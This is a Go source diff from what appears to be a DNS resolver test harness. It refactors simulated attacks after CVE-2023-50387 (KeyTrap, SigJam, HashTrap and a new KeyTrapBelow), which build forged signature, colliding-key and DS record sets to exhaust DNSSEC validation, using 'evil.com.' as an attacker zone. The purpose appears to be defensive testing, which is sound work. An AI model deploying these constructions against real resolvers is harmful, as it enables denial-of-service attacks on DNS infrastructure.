@@ -74,7 +74,7 @@ func KeyTrap(keys, signatures int) Attack {
 		Name: fmt.Sprintf("keytrap(%dx%d)", keys, signatures), Origin: "CVE-2023-50387", Validation: t.Validation(),
 		Lay: func(n *Internet) {
 			t.serve(n, func(m Message) Act {
-				return Say(forged(A(m.Question.Name.String(), day, addr4(1)), dnssec.RSASHA256, tag, signatures))
+				return Say(forged(A(m.Question.Name.String(), day, addr4(1)), t.key.Key.Owner, dnssec.RSASHA256, tag, signatures))
 			})
 		},
 		Ask: fresh("evil.com."),
@@ -104,14 +104,14 @@ func twin(i int) string {
 	return string(rdata)
 }
 
-// forged is set with so many signatures that nobody has made.
-func forged(set lookup.RRset, a dnssec.Algorithm, tag uint16, signatures int) lookup.RRset {
+// forged is set with so many signatures of zone that nobody has made.
+func forged(set lookup.RRset, zone lookup.Name, a dnssec.Algorithm, tag uint16, signatures int) lookup.RRset {
 	var sigs []string
 	for i := range signatures {
 		s := dnssec.Signature{
 			Covered: set.Type, Algorithm: a, Labels: uint8(set.Name.Labels()), OriginalTTL: set.TTL,
 			Expiration: uint32(time.Now().Add(day * time.Second).Unix()), Inception: uint32(time.Now().Add(-day * time.Second).Unix()),
-			Tag: tag, Signer: lookup.MustName("evil.com."),
+			Tag: tag, Signer: zone,
 			Octets: strings.Repeat(string([]byte{byte(i)}), 256),
 		}
 		if a != dnssec.RSASHA256 {
@@ -130,7 +130,7 @@ func SigJam(signatures int) Attack {
 		Name: fmt.Sprintf("sigjam(%d)", signatures), Origin: "CVE-2023-50387", Validation: t.Validation(),
 		Lay: func(n *Internet) {
 			t.serve(n, func(m Message) Act {
-				return Say(forged(A(m.Question.Name.String(), day, addr4(1)), dnssec.ECDSAP256SHA256, t.key.Key.Tag, signatures))
+				return Say(forged(A(m.Question.Name.String(), day, addr4(1)), t.key.Key.Owner, dnssec.ECDSAP256SHA256, t.key.Key.Tag, signatures))
 			})
 		},
 		Ask: fresh("evil.com."),
@@ -140,30 +140,50 @@ func SigJam(signatures int) Attack {
 // HashTrap refers to a zone with so many DS records, each with the tag of as many
 // keys: each of these has to be hashed to be told from those.
 func HashTrap(ds, keys int) Attack {
+	return trapBelow(fmt.Sprintf("hashtrap(%dx%d)", ds, keys), ds, keys, func(i int, _ dnssec.Key) dnssec.DS {
+		return dnssec.DS{Tag: 0x1234, Algorithm: dnssec.RSASHA256, Type: dnssec.SHA256, Digest: strings.Repeat(string([]byte{byte(i)}), 32)}
+	})
+}
+
+// KeyTrapBelow is HashTrap with DS records that do name keys: each of these might have
+// made each of the signatures over the DNSKEY RRset.
+func KeyTrapBelow(ds, keys int) Attack {
+	return trapBelow(fmt.Sprintf("keytrap-below(%dx%d)", ds, keys), ds, keys, func(_ int, k dnssec.Key) dnssec.DS {
+		named, _ := dnssec.DSOf(k, dnssec.SHA256)
+		return named
+	})
+}
+
+// trapBelow refers to zones with so many keys of one tag, of which the i-th DS record,
+// made for the i-th key, is in the zone above.
+func trapBelow(name string, ds, keys int, of func(i int, k dnssec.Key) dnssec.DS) Attack {
 	t := newTrap()
 	return Attack{
-		Name: fmt.Sprintf("hashtrap(%dx%d)", ds, keys), Origin: "CVE-2023-50387", Validation: t.Validation(),
+		Name: name, Origin: "CVE-2023-50387", Validation: t.Validation(),
 		Lay: func(n *Internet) {
-			var twins, digests []string
+			var twins []string
 			for i := range keys {
 				twins = append(twins, twin(i))
 			}
-			for i := range ds {
-				d := dnssec.DS{Tag: 0x1234, Algorithm: dnssec.RSASHA256, Type: dnssec.SHA256, Digest: strings.Repeat(string([]byte{byte(i)}), 32)}
-				digests = append(digests, d.Rdata())
+			digests := func(zone lookup.Name) lookup.Rdata {
+				parsed, all := dnssec.ParseKeys(lookup.RRset{Name: zone, Type: lookup.TypeDNSKEY, Data: lookup.PackRdata(twins...)}), []string(nil)
+				for i := range ds {
+					all = append(all, of(i, parsed[i%len(parsed)]).Rdata())
+				}
+				return lookup.PackRdata(all...)
 			}
 			below := func(name lookup.Name) lookup.Name { return name.Suffix(3) }
 			child := n.Serve(func(m Message) Act {
 				zone := below(m.Question.Name)
 				if m.Question.Type == lookup.TypeDNSKEY {
-					return Say(forged(lookup.RRset{Name: zone, Type: lookup.TypeDNSKEY, TTL: day, Data: lookup.PackRdata(twins...)}, dnssec.RSASHA256, 0x1234, 8))
+					return Say(forged(lookup.RRset{Name: zone, Type: lookup.TypeDNSKEY, TTL: day, Data: lookup.PackRdata(twins...)}, zone, dnssec.RSASHA256, 0x1234, 8))
 				}
-				return Say(forged(A(m.Question.Name.String(), day, addr4(1)), dnssec.RSASHA256, 0x1234, 8))
+				return Say(forged(A(m.Question.Name.String(), day, addr4(1)), zone, dnssec.RSASHA256, 0x1234, 8))
 			})
 			t.serve(n, func(m Message) Act {
 				zone := below(m.Question.Name)
 				act := Refer(NS(zone.String(), day, "ns."+zone.String()), A("ns."+zone.String(), day, child))
-				set := t.Sign(lookup.RRset{Name: zone, Type: lookup.TypeDS, TTL: day, Data: lookup.PackRdata(digests...)})
+				set := t.Sign(lookup.RRset{Name: zone, Type: lookup.TypeDS, TTL: day, Data: digests(zone)})
 				act.Reply.Authority = append(act.Reply.Authority, set)
 				return act
 			})
